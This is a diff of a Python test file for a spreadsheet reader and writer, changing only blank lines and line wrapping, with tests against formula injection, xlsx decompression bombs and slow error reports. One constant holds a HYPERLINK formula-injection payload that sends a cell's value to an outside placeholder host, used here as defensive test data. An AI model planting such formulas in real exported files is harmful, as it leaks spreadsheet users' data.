@@ -1,4 +1,5 @@
 """The shared spreadsheet reader and writer: no cell we write is a formula, and no upload is read past its limits."""
+
 import csv
 import io
 import sys
@@ -15,6 +16,7 @@ MALICIOUS = '=HYPERLINK("http://x?d="&D3,"x")'
 
 
 # Formula injection (issue 13, finding 4) -----------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", MALICIOUS])
 def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
@@ -38,8 +40,7 @@ def formulas_in(path) -> bytes:
 
 
 def test_write_xlsx_writes_formula_text_as_a_string_cell(tmp_path):
-    tabular.write_xlsx(tmp_path / "a.xlsx", headers=["Họ và tên", "Số"], rows=[[MALICIOUS, -5]],
-                       row_errors={0: "=lỗi"})
+    tabular.write_xlsx(tmp_path / "a.xlsx", headers=["Họ và tên", "Số"], rows=[[MALICIOUS, -5]], row_errors={0: "=lỗi"})
     sheet = load_workbook(tmp_path / "a.xlsx").active
     assert_inert_text(sheet["A2"], MALICIOUS)
     assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -5)
@@ -72,7 +73,6 @@ def test_a_file_we_wrote_reads_back_as_typed(tmp_path):
 
 
 # Limits of uploads (issue 13, finding 5) -----------------------------------------------------------------------------
-
 
 
 def test_an_xlsx_bomb_is_refused_before_it_is_unpacked(tmp_path, settings):
@@ -115,6 +115,7 @@ def test_problems_over_the_limit_are_counted_not_listed(settings):
 def test_the_error_report_costs_the_same_per_row_however_many_rows_are_bad(tmp_path):
     """Counted in Python function calls, not seconds: writing twice the bad rows must cost about twice the calls.
     (openpyxl's `max_row`, once called per row, scanned every cell and made this quadratic.)"""
+
     def calls_for(count: int) -> int:
         rows = [[f"Người {n}", "01/01/1990", "Nam"] for n in range(count)]
         errors = {n: f"lỗi dòng {n}" for n in range(count)}
